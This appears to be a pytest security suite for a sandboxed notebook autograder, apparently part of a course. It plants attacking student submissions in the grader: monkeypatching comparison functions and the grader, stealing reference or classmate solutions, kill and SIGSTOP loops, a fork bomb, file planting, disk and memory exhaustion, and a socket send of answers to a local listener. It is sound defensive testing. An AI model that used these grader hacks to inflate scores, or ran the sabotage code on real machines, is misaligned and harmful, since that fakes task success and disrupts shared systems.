"""Every attack of issue 20 on the grader, written as a student would, and what it now earns.

Each submission starts from notebook 05 with every exercise unsolved (honest score 0/8) or
solved (8/8) and adds the attack in an exercise cell or in an extra cell. All submissions are
graded in one batch (two runs at a time), as an instructor would grade a class. Needs
bubblewrap and root; ``make test-grader-security`` runs this file (``.ci/run`` too).
"""

import json
import os
import socket
import threading
import time

import pytest
from test_grade import MAX, NAME, SOURCE, UNSOLVED, _by_function, _submission

from helpers.course import grade, sandbox

pytestmark = pytest.mark.slow


@pytest.fixture(autouse=True)
def _sandbox_available():
    if sandbox.find_bwrap() and os.geteuid() == 0:
        return
    message = "needs bubblewrap and root: apt-get install bubblewrap, run as root"
    if os.environ.get("DNN_WEEK3_REQUIRE_SANDBOX"):
        pytest.fail(message)
    pytest.skip(message)


STUB = "def softmax(Z):\n    return np.zeros_like(Z)\n"  # wrong: scores 0 honestly

# name -> (exercise cells replaced, extra cells, expected score)
ATTACKS = {
    "replace the grader's report_check": (
        {"softmax": "import helpers.course.grade as g\ng.report_check = lambda *a: None\n" + STUB},
        ["import helpers.course.grade as g\ng.report_check = lambda *a, **k: print('passed')"],
        0,
    ),
    "make np.allclose and math.isclose always true": (
        {
            "softmax": "import math\nnp.allclose = lambda *a, **k: True\n"
            "math.isclose = lambda *a, **k: True\nnp.array_equal = lambda *a: True\n" + STUB
        },
        [],
        0,
    ),
    "patch builtins the checker calls": (
        {
            "softmax": "import builtins\nbuiltins.isinstance = lambda *a: True\n"
            "builtins.abs = lambda x: 0\n" + STUB
        },
        [],
        0,
    ),
    "an ndarray subclass that equals everything": (
        {
            "softmax": "class Yes(np.ndarray):\n    def __eq__(self, other):\n        return True\n"
            "    def __array_function__(self, *a, **k):\n        return True\n"
            "def softmax(Z):\n    return np.zeros_like(Z).view(Yes)"
        },
        [],
        0,
    ),
    "walk the stack to the checker's expected value": (
        {
            "softmax": "import inspect\ndef softmax(Z):\n"
            "    for frame in inspect.stack():\n"
            "        for name in ('expected', 'want', 'W_want'):\n"
            "            if name in frame.frame.f_locals:\n"
            "                return frame.frame.f_locals[name]\n"
            "    return np.zeros_like(Z)"
        },
        [],
        0,
    ),
    "an IPython input transformer rewriting the check cell": (
        {
            "softmax": "get_ipython().input_transformers_cleanup.append(\n"
            "    lambda lines: ['pass\\n'])\n" + STUB
        },
        ["get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])"],
        0,
    ),
    "a sys.meta_path finder serving fake checks": (
        {
            "softmax": "import sys, types, importlib.abc, importlib.machinery\n"
            "class Fake(importlib.abc.MetaPathFinder, importlib.abc.Loader):\n"
            "    def find_spec(self, name, path, target=None):\n"
            "        if name.startswith('helpers.checks'):\n"
            "            return importlib.machinery.ModuleSpec(name, self)\n"
            "    def create_module(self, spec):\n"
            "        return types.ModuleType(spec.name)\n"
            "    def exec_module(self, module):\n"
            "        module.observe = lambda *a, **k: {'result': True}\n"
            "sys.meta_path.insert(0, Fake())\n"
            "for name in [n for n in sys.modules if n.startswith('helpers.checks')]:\n"
            "    del sys.modules[name]\n" + STUB
        },
        [],
        0,
    ),
    "patch the reference module the checks compare with": (
        {
            "softmax": "import helpers.softmax\n"
            "helpers.softmax.softmax = lambda Z: np.zeros_like(Z)\n" + STUB
        },
        [],
        0,
    ),
    "call the course's reference": (
        {
            "softmax": "from helpers.softmax import softmax",
            "one_hot": "from helpers.softmax import one_hot",
            "cross_entropy_cost": "from helpers import softmax as s\ncross_entropy_cost = "
            "s.cross_entropy_cost",
            "softmax_regression_step": "from helpers.softmax import softmax_regression_step",
        },
        [],
        0,
    ),
    "copy the solution out of the instructor's notebook": (
        {
            "softmax": "import json, pathlib, helpers\n"
            "path = pathlib.Path(helpers.__file__).parents[1] / 'notebooks' / "
            "'05_softmax_regression.ipynb'\n"
            "for cell in json.loads(path.read_text())['cells']:\n"
            "    if cell['metadata'].get('nbgrader', {}).get('grade_id') == 'softmax':\n"
            "        exec(''.join(cell['source']))"
        },
        [],
        0,
    ),
    "copy a classmate's answer from the submissions folder": (
        {
            "softmax": "import glob, json, os\n"
            "places = ['/tmp', '/work', '/home', '/root', os.getcwd() + '/../../..']\n"
            "paths = [p for place in places for depth in ('/*', '/*/*', '/*/*/*')\n"
            "         for p in glob.glob(place + depth + '/05_*.ipynb')]\n"
            "for path in paths:\n"
            "    for cell in json.load(open(path))['cells']:\n"
            "        if cell['metadata'].get('nbgrader', {}).get('grade_id') == 'softmax':\n"
            "            exec(''.join(cell['source']))\n"
            "if 'softmax' not in globals():\n"
            "    def softmax(Z):\n"
            "        return np.zeros_like(Z)\n"
        },
        [],
        0,
    ),
    "a solved 02 handed in as 05": ({}, [], 0),  # built from another notebook below
    "a loop that swallows interrupts in an extra cell": (
        {},
        ["import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"],
        MAX,  # honest work, an ungraded cell: not run at all
    ),
}

# Attacks on the machine and on other students: the attacker's own softmax cell does the harm
# and then defines a wrong softmax; the victim after it is honest and solved (8/8).
SABOTAGE = {
    "rewrite helpers.checks for the next submission": (
        "import helpers.checks.probes as p\n"
        "try:\n"
        "    with open(p.__file__, 'a') as f:\n"
        "        f.write('\\ndef observe(*a, **k):\\n    return {\\'result\\': None}\\n')\n"
        "except OSError:\n"
        "    pass\n"
    ),
    "plant files for the neighbour": (
        "import os, pathlib, site, helpers\n"
        "places = ['.', '..', '/tmp', os.path.expanduser('~'), os.path.dirname(helpers.__file__),\n"
        "          *site.getsitepackages()]\n"
        "for folder in places:\n"
        "    for name in ('numpy.py', 'sitecustomize.py', 'usercustomize.py'):\n"
        "        try:\n"
        "            pathlib.Path(folder, name).write_text('raise SystemExit')\n"
        "        except OSError:\n"
        "            pass\n"
    ),
    "kill the grader": (
        "import os, signal\n"
        "for pid in (os.getppid(), 1, -1):\n"
        "    try:\n"
        "        os.kill(pid, signal.SIGKILL)\n"
        "    except OSError:\n"
        "        pass\n"
    ),
    "freeze the grader with SIGSTOP": (
        "import os, signal\n"
        "for pid in range(1, 4096):\n"
        "    try:\n"
        "        os.kill(pid, signal.SIGSTOP) if pid != os.getpid() else None\n"
        "    except OSError:\n"
        "        pass\n"
    ),
    "a daemon that stops the exercises after it": (
        "import os, signal, time\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    time.sleep(2)\n"
        "    while True:\n"
        "        try:\n"
        "            os.kill(-1, signal.SIGSTOP)\n"
        "        except OSError:\n"
        "            pass\n"
        "        time.sleep(0.01)\n"
    ),
    "a fork bomb": (
        "import os\n"
        "forks = 0\n"
        "for _ in range(1000):\n"
        "    try:\n"
        "        if os.fork() == 0:\n"
        "            import time; time.sleep(30); os._exit(0)\n"
        "        forks += 1\n"
        "    except OSError:\n"
        "        break\n"
        "if forks >= 1000:\n"
        "    def softmax(Z):\n"
        "        T = np.exp(Z - Z.max(axis=0))\n"
        "        return T / T.sum(axis=0)\n"
    ),
    "print without end": (
        "import sys\nchunk = 'x' * 1_000_000\nfor _ in range(1000):\n    sys.stdout.write(chunk)\n"
    ),
    # These two earn softmax's points if the limit they run into is missing.
    "fill /tmp": (
        "chunk, written = b'x' * 2 ** 24, 0\n"
        "for i in range(64):\n"
        "    try:\n"
        "        with open(f'/tmp/fill{i}', 'wb') as f:\n"
        "            f.write(chunk)\n"
        "        written += len(chunk)\n"
        "    except OSError:\n"
        "        break\n"
        "if written > 300 * 2 ** 20:\n"
        "    def softmax(Z):\n"
        "        T = np.exp(Z - Z.max(axis=0))\n"
        "        return T / T.sum(axis=0)\n"
    ),
    "take all the memory": (
        "hog = []\nfor _ in range(64):\n    hog.append(bytearray(1024 ** 3))\n"
    ),
}


def _daemon(target):
    """A double fork that outlives its cell and rewrites ``target`` a few seconds later."""
    return (
        "import os, time\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        time.sleep(4)\n"
        f"        open({str(target)!r}, 'w').write('{{\"score\": 8}}')\n"
        "        os._exit(0)\n"
        "    os._exit(0)\n"
    )


def _phone_home(port):
    return (
        "import socket\n"
        "try:\n"
        f"    socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'answers')\n"
        "except OSError:\n"
        "    pass\n"
    )


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """Grade every attack and every victim in one batch; return reports by name."""
    root = tmp_path_factory.mktemp("class")
    report_path = root / "report.json"
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(0.5)
    received = []

    def listen():
        end = time.monotonic() + 600
        while time.monotonic() < end and not stop.is_set():
            try:
                received.append(listener.accept())
            except TimeoutError:
                continue

    stop = threading.Event()
    threading.Thread(target=listen, daemon=True).start()
    paths, names = [], []
    for i, (name, (replace, extra, _)) in enumerate(ATTACKS.items()):
        folder = root / f"attack{i:02d}"
        if name == "a solved 02 handed in as 05":
            path = _submission(folder, source=SOURCE.with_name("02_appropriate_scale.ipynb"))
        else:
            path = _submission(folder, extra=extra, **{**UNSOLVED, **replace})
            if not replace:  # honest solved work plus the extra cell
                path = _submission(folder, extra=extra)
        paths.append(path)
        names.append(name)
    extra_attacks = {
        **SABOTAGE,
        "a daemon rewriting the report": _daemon(report_path),
        "send the answers over the network": _phone_home(listener.getsockname()[1]),
    }
    for i, (name, code) in enumerate(extra_attacks.items()):
        paths.append(_submission(root / f"sabotage{i:02d}", softmax=STUB + code))
        names.append(name)
        paths.append(_submission(root / f"victim{i:02d}"))
        names.append(f"victim of {name}")
    started = time.monotonic()
    code = grade.main([*map(str, paths), "--jobs", "2", "--json", str(report_path)])
    seconds = time.monotonic() - started
    written = report_path.read_text()
    time.sleep(6)  # longer than the daemon waits
    stop.set()
    reports = json.loads(report_path.read_text())
    return {
        "by_name": dict(zip(names, reports, strict=True)),
        "exit": code,
        "report_unchanged": report_path.read_text() == written,
        "received": received,
        "seconds": seconds,
    }


@pytest.mark.parametrize("name", list(ATTACKS))
def test_an_attack_earns_only_what_the_work_is_worth(graded, name):
    report = graded["by_name"][name]
    assert report["graded"], report["notes"]
    assert report["score"] == ATTACKS[name][2], json.dumps(report, indent=1)[:3000]


@pytest.mark.parametrize("name", [*SABOTAGE, "a daemon rewriting the report"])
def test_sabotage_costs_the_saboteur_and_spares_the_neighbour(graded, name):
    attacker = graded["by_name"][name]
    victim = graded["by_name"][f"victim of {name}"]
    assert not _by_function(attacker)["softmax"]["passed"]
    assert attacker["score"] == MAX - 2, json.dumps(attacker, indent=1)[:3000]
    assert victim["score"] == MAX, json.dumps(victim, indent=1)[:3000]


def test_the_batch_finishes_with_every_report_intact(graded):
    assert graded["exit"] == 0
    assert graded["report_unchanged"], "something rewrote the report after the grader wrote it"
    assert len(graded["by_name"]) == len(ATTACKS) + 2 * (len(SABOTAGE) + 2)


def test_nothing_reaches_the_network(graded):
    assert graded["received"] == []
    assert graded["by_name"]["send the answers over the network"]["score"] == MAX - 2


def test_no_process_of_a_run_outlives_it(graded):
    leftovers = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            uid = int(open(f"/proc/{pid}/status").read().split("Uid:")[1].split()[0])
        except (OSError, IndexError):
            continue
        if sandbox.FIRST_UID <= uid < sandbox.FIRST_UID + 64:
            leftovers.append(pid)
    assert leftovers == []


def test_a_student_never_sees_the_grader_environment(tmp_path):
    secret = "GRADER_SECRET_TOKEN"
    os.environ[secret] = "hunter2"
    try:
        code = (
            "import os\n"
            "def one_hot(labels, C):\n"
            f"    if os.environ.get({secret!r}) or os.path.exists('/work/shared'):\n"
            "        import numpy as np\n"
            "        return np.eye(C)[:, labels]\n"
            "    raise ValueError('sealed')\n"
        )
        (report,) = grade.Grader(sandboxed=True).grade([_submission(tmp_path, one_hot=code)])
    finally:
        del os.environ[secret]
    assert not _by_function(report)["one_hot"]["passed"]
    assert "sealed" in _by_function(report)["one_hot"]["feedback"]


def test_a_submission_not_named_after_an_assignment_is_not_graded(tmp_path):
    path = _submission(tmp_path, name="my_homework.ipynb")
    assert grade.main([str(path)]) == 1
    assert NAME.startswith("05_")
